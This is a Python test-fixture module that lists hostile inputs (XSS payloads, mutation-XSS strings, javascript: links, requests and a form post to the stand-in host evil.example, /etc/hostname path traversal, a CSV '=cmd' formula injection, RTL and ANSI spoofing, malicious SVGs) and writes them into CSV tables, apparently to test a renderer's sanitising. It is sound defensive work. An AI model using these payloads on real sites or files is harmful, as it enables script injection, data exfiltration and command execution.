r"""Words with which a stranger's file might try to run, load, read or hide something.

Each sets `window.P`, opens a dialog, asks `evil.example` for something, names a file of
the machine, hides or swallows the page, sends a form away, or ends a formula, a fence, a
table or a list too early. `SECRET` is the name of a file that lies beside the page; what
it holds is `PIXEL`, in base64.
"""

import csv

import numpy as np

SECRET = "secret.png"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9"
    "awAAAABJRU5ErkJggg=="
)

SCRIPTS = [
    "<script>window.P=1</script>",
    "</div></section></main><img src=x onerror=window.P=2>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=window.P=4>",
    "<svg><script>window.P=5</script></svg>",
    "<svg><animate onbegin=window.P=6 attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:window.P=7>",
    "<math><mi//xlink:href='data:x,<script>window.P=8</script>'>",
    "<math><annotation-xml encoding='text/html'><script>window.P=9</script>"
    "</annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x "
    "onerror=window.P=10>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x "
    "onerror=window.P=11>",
    "<svg></p><style><a id='</style><img src=x onerror=window.P=12>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.P=13>'>",
    "<textarea><img title='</textarea><img src=x onerror=window.P=14>'>",
    "<title><img title='</title><img src=x onerror=window.P=15>'>",
    "<iframe srcdoc='<script>parent.P=16</script>'></iframe>",
    "<iframe src=javascript:parent.P=17></iframe>",
    "<object data='data:text/html,<script>parent.P=18</script>'></object>",
    "<embed src='data:text/html,<script>parent.P=19</script>'>",
    "<details open ontoggle=window.P=20>",
    "<video><source onerror=window.P=21></video>",
    "<audio src=x onerror=window.P=22>",
    "<input autofocus onfocus=window.P=23>",
    "<select autofocus onfocus=window.P=24>",
    "<textarea autofocus onfocus=window.P=25>",
    "<marquee onstart=window.P=26>",
    "<body onload=window.P=27>",
    "<p style='animation:x 1s' onanimationstart=window.P=28>",
    "<x onclick=window.P=29 style='position:fixed;top:0;left:0;width:100%;height:100%'>",
    "<img src='x'onerror='window.P=30'>",
    "<img/src/onerror=window.P=31>",
    '"><img src=x onerror=window.P=32>',
    "'><img src=x onerror=window.P=33>",
    "--><img src=x onerror=window.P=34>",
    "]]><img src=x onerror=window.P=35>",
    "</code></pre><img src=x onerror=window.P=36>",
    "</td></tr></table><img src=x onerror=window.P=37>",
    "</title><script>window.P=38</script>",
    "</style><script>window.P=39</script>",
    "&lt;img src=x onerror=window.P=40&gt;",
    "&#60;img src=x onerror=window.P=41&#62;",
    "\\x3cimg src=x onerror=window.P=42\\x3e",
    "＜img src=x onerror=window.P=43＞",
    "<scr<script>ipt>window.P=44</scr</script>ipt>",
    "<<img src=x onerror=window.P=45>>",
    "<img src=x onerror=window.P=46//",
    "<template><img src=x onerror=window.P=47></template>",
    "<slot><img src=x onerror=window.P=48></slot>",
    "<button popovertarget=x onclick=window.P=49>go</button><div popover id=x>",
    "{{7*7}}<img src=x onerror=window.P=50>",
    "{% raw %}{{ config }}<img src=x onerror=window.P=51>",
]

LINKS = [
    "<a href=javascript:window.P=60>a</a>",
    "<a href='java&#9;script:alert(61)'>b</a>",
    "<a href=' &#1;javascript:alert(62)'>c</a>",
    "<a href='JaVaScRiPt:alert(63)'>d</a>",
    "<a href='data:text/html,<script>alert(64)</script>'>e</a>",
    "<a href='vbscript:alert(65)'>f</a>",
    "<a href='file:///etc/hostname'>g</a>",
    "<a href='/etc/hostname' download>h</a>",
    "<a href='blob:null/x'>i</a>",
    "<a href='//evil.example/x'>j</a>",
    "<a href='\\\\evil.example\\x'>k</a>",
    "<a href='http://['>l</a>",
    "<a href='x%00.ipynb'>m</a>",
    "[n](javascript:alert(66))",
    "[o](<javascript:alert(67)>)",
    "[p](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[q]: javascript:alert(68)\n[q]",
    "<javascript:alert(69)>",
    "<form action='javascript:window.P=70'><button>r</button></form>",
    "<form action=https://evil.example/f><input name=s><button>s</button></form>",
    "<button formaction=javascript:window.P=71>t</button>",
    "<map name=m><area href=javascript:window.P=72 shape=default></map>"
    "<img usemap=#m src=x>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    "<a ping=https://evil.example/ping href=#main>u</a>",
]

REQUESTS = [
    "<img src=https://evil.example/a.png>",
    "<img src=//evil.example/b.png>",
    "<img srcset='https://evil.example/c.png 2x'>",
    "<picture><source srcset=https://evil.example/d.png><img></picture>",
    "<video poster=//evil.example/e autoplay src=//evil.example/f>",
    "<svg><image href=//evil.example/g /></svg>",
    "<svg><use href='https://evil.example/h#x' /></svg>",
    "<svg><filter><feImage href=//evil.example/i /></filter></svg>",
    "<table background=//evil.example/j><tr><td>x",
    "<body background=//evil.example/k>",
    "<p style='background:u\\72l(//evil.example/l)'>",
    "<p style='background-image:image-set(\"//evil.example/m\" 1x)'>",
    "<p style='list-style:url(//evil.example/n)'>",
    "<style>@import '//evil.example/o';</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/p)}*{font-family:x}</style>",
    "<link rel=stylesheet href=//evil.example/q>",
    "<link rel=prefetch href=//evil.example/r>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<object data=//evil.example/s></object>",
    "<embed src=//evil.example/t>",
    "<iframe src=//evil.example/u></iframe>",
    "<frameset><frame src=//evil.example/v></frameset>",
    "<audio src=//evil.example/w autoplay>",
    "<track src=//evil.example/x>",
    "<input type=image src=//evil.example/y>",
    "<img lowsrc=//evil.example/z dynsrc=//evil.example/z>",
    "![aa](https://evil.example/aa.png)",
    "![bb](//evil.example/bb.png)",
    "<math href=//evil.example/cc><mi>x</mi></math>",
    "<script type=module src=//evil.example/dd></script>",
]

FILES = [
    "![p](/etc/hostname)",
    "![p](../../../../../../etc/hostname)",
    "<img src=/etc/hostname>",
    "<img src=file:///etc/hostname>",
    f"![p]({SECRET})",
    f"<img src={SECRET}>",
    f"<img src=./x/../{SECRET}>",
    f"![p](attachment:{SECRET})",
    f"<iframe src={SECRET}></iframe>",
    f"<object data={SECRET}></object>",
    "{% include '/etc/hostname' %}",
    "<!--#include file='/etc/hostname'-->",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"/>'>",
]

HIDDEN = [
    "<style>main{display:none}</style>",
    "<style>*{visibility:hidden!important}",
    "<main hidden>",
    "<textarea>",
    "<plaintext>",
    "<xmp>",
    "<title>",
    "<select><option>",
    "<!--",
    "<![CDATA[",
    "<?xml",
    "<noembed>",
    "<noframes>",
    "<iframe>",
    "<template>",
    "<dialog open style='position:fixed;inset:0;background:white'>x</dialog>",
    "<div style='position:fixed;inset:0;background:white;z-index:9'>",
    "<div class=skip><div class=banner id=main>",
    "<details><summary>",
    "</main></body></html>",
    "<p hidden><b inert>",
    "W" * 3000,
    "i" * 3000,
    "<b>" * 400,
    "[" * 300,
    "*" * 300 + "a",
    "> " * 100 + "x",
    "\u202egnp.exe",
    "a\u2028b\u2029c",
    "\x1b[31mred\x1b[8mhidden",
]

FORMULAS = [
    r"$\frac{1}{$",
    "$x$ and $y$",
    "$$",
    r"$$\href{javascript:alert(80)}{x}$$",
    r"\(x\)",
    r"\[\undefined\]",
    r"\begin{equation}x\label{a}\end{equation}",
    r"\begin{align",
    r"\eqref{nowhere}",
    r"$\rule{9999em}{9999em}$",
    r"$\def\a{\a\a}\a$",
    "price in $ (US$)",
    "```\n<img src=x onerror=window.P=90>",
    "````sh",
    "~~~",
    "`<img src=x onerror=window.P=91>`",
    "a | b | c",
    "# a title",
    "- a\n- b",
    "1. a",
    "***",
    "===",
    "[ ] task",
    "[^1]",
    "@@0@@",
    "&amp; &nbsp; &copy;",
    "a\\",
    "=cmd|' /C calc'!A0",
]

DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'width="90" height="45" viewBox="0 0 90 45" {}><path id="p" d="M 0 0 L 90 0 L 90 45 z"/>'
    "{}</svg>"
)
DRAWINGS = [
    DRAWING.format("onload='window.P=100'", ""),
    *(
        DRAWING.format("", inside)
        for inside in (
            "<script>window.P=101; parent.P=101; top.P=101</script>",
            "<script href='https://evil.example/a.js'/>",
            "<style>@import url(https://evil.example/b.css);</style>",
            "<image href='https://evil.example/c.png' width='9' height='9'/>",
            "<use xlink:href='https://evil.example/d.svg#x'/>",
            "<a href='javascript:window.P=102'><path d='M 0 0 h 90 v 45 z'/></a>",
            "<path d='M 0 0' fill='url(https://evil.example/e#x)'/>",
            "<foreignObject width='90' height='45'><body "
            "xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='window.P=103'/>"
            "</body></foreignObject>",
            "<animate attributeName='href' values='javascript:window.P=104'/>",
            "<set attributeName='onload' to='window.P=105'/>",
            "<path d='M 0 0 h 9' onclick='window.P=106'/>",
            "<text>&lt;/svg&gt;&lt;img src=x onerror=window.P=107&gt;</text>",
            "<g id='a'><use xlink:href='#b'/></g><g id='b'><use xlink:href='#a'/></g>",
        )
    ),
]

PAYLOADS = [*SCRIPTS, *LINKS, *REQUESTS, *FILES, *HIDDEN, *FORMULAS]


def write_csv(path, words):
    """A table whose column names, row names and labels are these words."""
    rng = np.random.default_rng(0)
    title, label = words[0] + " names", words[1] + " label"
    nominal = words[2] + " nominal"
    with open(path, "w", newline="", encoding="utf-8") as file:
        out = csv.writer(file)
        out.writerow(["a", "b", "c", title, label, *words])
        for at in range(400):
            named = at < len(words)
            values = rng.normal(size=3).round(4) + 9 * named
            kind = words[at] if named else nominal
            name = words[at] if named else f"row {at}"
            out.writerow([*values, name, kind, *(1 for _ in words)])
    return {"identity": title, "label": label, "nominal": nominal}
